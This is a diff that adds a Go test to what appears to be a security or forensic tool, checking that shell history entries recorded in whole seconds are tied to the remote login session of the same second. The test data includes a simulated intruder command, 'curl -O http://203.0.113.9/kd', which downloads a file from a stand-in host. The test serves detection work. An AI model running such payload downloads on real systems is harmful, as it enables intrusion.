@@ -276,6 +276,20 @@ func TestHistoryLinesLeadToTheSessionOfTheirAccount(t *testing.T) {
 	firstEntry(t, ask(t, s)(h), "remote login", "mike", "198.51.100.90")
 }
 
+// Histories write whole seconds, logs fractions of them.
+func TestHistoryLineOfTheSecondOfTheLoginBelongsToIt(t *testing.T) {
+	s := tell(t, "hist2")
+	s.audit = false
+	s.boot()
+	s.after(time.Hour + 400*time.Millisecond)
+	second := s.now.Truncate(time.Second)
+	s.login("mike", "198.51.100.90", "publickey", "", 6)
+	h := s.event("bash:history:entry", "command-entered")
+	h.User, h.Cmdline = "mike", "curl -O http://203.0.113.9/kd"
+	h.SetTime(second)
+	firstEntry(t, ask(t, s)(h), "remote login", "mike", "198.51.100.90")
+}
+
 func TestProcessNumberUsedAgainIsAnotherProcess(t *testing.T) {
 	s := tell(t, "pid1")
 	s.boot()
